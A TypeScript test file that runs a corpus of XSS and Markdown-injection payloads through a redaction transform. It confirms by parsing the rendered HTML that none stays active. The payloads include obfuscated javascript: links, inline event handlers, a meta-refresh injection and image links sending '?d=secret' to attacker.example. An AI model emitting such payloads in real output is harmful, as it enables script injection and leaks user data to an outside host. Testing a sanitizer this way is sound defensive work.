import { readFileSync } from 'node:fs';
import { micromark } from 'micromark';
import { type DefaultTreeAdapterTypes, parse } from 'parse5';
import { describe, expect, it } from 'vitest';
import { redactText } from '../redaction.js';
import { createRenderDetector } from './detector.js';

/**
 * A public XSS corpus (test/fixtures/xss, DOMPurify's vectors, Apache-2.0) through the HTML and Markdown
 * transforms, with zero payloads left active. "Active" is decided on a real parse of the rendered output,
 * never by string matching: render the transformed text as Markdown with raw HTML and every protocol
 * allowed, parse it with parse5, and walk every element and attribute.
 */

const PAYLOADS = JSON.parse(readFileSync(new URL('../../../test/fixtures/xss/dompurify-payloads.json', import.meta.url), 'utf8')) as string[];

/** The obfuscated javascript: spellings of the corpus, in Markdown syntax. */
const SPELLINGS = [
  'javascript:alert(1)',
  '\u2028javascript:alert(1)',
  '&#xA0javascript:alert(1)',
  '\u0001java\u0003script:alert(1)',
  'jav&#x09;ascript:alert(1)',
  'JaVaScRiPt&colon;alert(1)',
  'javascript%3Aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  'file:///etc/passwd',
];
const MARKDOWN = [
  ...SPELLINGS.flatMap((s) => [`[a](${s})`, `![a](${s})`, `[a][r]\n\n[r]: ${s}\n`, `<${s}>`, `[a](<${s}>)`, `[![i](${s})](${s})`]),
  '![x](https://attacker.example/p?d=secret)',
  '![x][img]\n\n[img]: https://attacker.example/p?d=secret "t"\n',
  '[x]\n\n[x]: //attacker.example/p\n',
  '![a\'"`onerror=prompt(1)](x)',
  '[a](https://ok.example "title onmouseover=alert(1)")',
  '![x](https://attacker.example/a.png) <img src=https://attacker.example/b.png>',
  '[citelol]: (javascript:prompt(1))',
  '[text](http://attacker.example " [@x](/x) ")',
  '<http://\\<meta\\ http-equiv=\\"refresh\\"\\ content=\\"0;\\ url=http://attacker.example/\\"\\>>',
];

const detector = createRenderDetector({ links: { allowedDomains: ['ok.example'] } });

function transform(text: string): string {
  return redactText(text, detector.detect(text, { direction: 'output', part: 'content' }), 'mask', undefined);
}

/** Elements that run script, embed a document, load a resource, take input or change the page. */
const ACTIVE_ELEMENTS = new Set(
  'script iframe frame frameset object embed applet svg math style link meta base form input button textarea select option video audio source track img image picture template noscript xmp noembed listing isindex keygen portal param set animate handler listener'.split(
    ' ',
  ),
);
const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'xlink:href',
  'data',
  'poster',
  'background',
  'lowsrc',
  'dynsrc',
  'cite',
  'to',
  'from',
  'values',
]);
const DANGEROUS = /^(?:javascript|vbscript|data|file|livescript|mocha):/;

type Node = DefaultTreeAdapterTypes.Node;

/** Every active element or attribute of the rendered page, described; empty when the output is inert. */
function activeParts(html: string): string[] {
  const found: string[] = [];
  const walk = (node: Node) => {
    if ('tagName' in node) {
      if (ACTIVE_ELEMENTS.has(node.tagName)) found.push(`<${node.tagName}>`);
      for (const attr of node.attrs) {
        const name = attr.prefix ? `${attr.prefix}:${attr.name}` : attr.name;
        // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers drop these before reading a scheme
        const value = attr.value.replace(/[\u0000-\u0020\u007f-\u00a0\u1680\u180e\u2000-\u200f\u2028\u2029\u205f\u3000\ufeff]/g, '').toLowerCase();
        if (name.startsWith('on') || name === 'style' || name === 'srcset') found.push(`${node.tagName}[${name}]`);
        if (URL_ATTRIBUTES.has(name) && DANGEROUS.test(value)) found.push(`${node.tagName}[${name}=${value.slice(0, 20)}]`);
      }
    }
    if ('content' in node && node.content) walk(node.content as Node);
    if ('childNodes' in node) for (const child of node.childNodes) walk(child);
  };
  walk(parse(html));
  return found;
}

function rendered(text: string): string {
  return micromark(text, { allowDangerousHtml: true, allowDangerousProtocol: true });
}

describe('XSS and Markdown-injection corpus', () => {
  it('the corpus is live: untransformed, most payloads are active once rendered', () => {
    const active = [...PAYLOADS, ...MARKDOWN].filter((p) => activeParts(rendered(p)).length > 0);
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(100);
    expect(active.length).toBeGreaterThan(100);
  });

  it.each(PAYLOADS.map((p, i) => [i, p]))('HTML payload %i is inert after the transforms, alone and in Markdown prose', (_i, payload) => {
    for (const text of [payload, `Here you go:\n\n${payload}\n\nand *more* text.`, `Inline ${payload} text`]) {
      expect(activeParts(rendered(transform(text))), text).toEqual([]);
    }
  });

  it.each(MARKDOWN.map((p, i) => [i, p]))('Markdown payload %i is inert after the transforms', (_i, payload) => {
    expect(activeParts(rendered(transform(payload))), payload).toEqual([]);
    expect(activeParts(rendered(transform(`See: ${payload} end`))), payload).toEqual([]);
  });

  it('links on the allowed domain stay links', () => {
    const html = rendered(transform('[docs](https://ok.example/start)'));
    expect(html).toBe('<p><a href="https://ok.example/start">docs</a></p>');
  });
});
